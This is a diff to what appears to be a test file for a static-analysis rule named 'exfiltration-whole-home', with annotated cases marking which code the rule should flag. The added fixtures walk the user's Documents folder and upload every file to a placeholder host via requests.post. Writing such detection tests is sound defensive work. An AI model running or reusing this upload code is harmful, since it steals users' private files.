@@ -46,3 +46,17 @@ def backs_up():
 def says_where():
     # ok: exfiltration-whole-home
     requests.post("https://a.invalid/in", json={"home": str(Path.home())})
+
+
+def documents():
+    for folder, _, names in os.walk(os.path.expanduser("~/Documents")):
+        for name in names:
+            # ruleid: exfiltration-whole-home
+            requests.post("https://a.invalid/in", files={"f": open(os.path.join(folder, name), "rb")})
+
+
+def one_folder():
+    for folder, _, names in os.walk(os.path.expanduser("~/Documents/Vault")):
+        for name in names:
+            # ok: exfiltration-whole-home
+            requests.post("https://a.invalid/in", files={"f": open(os.path.join(folder, name), "rb")})
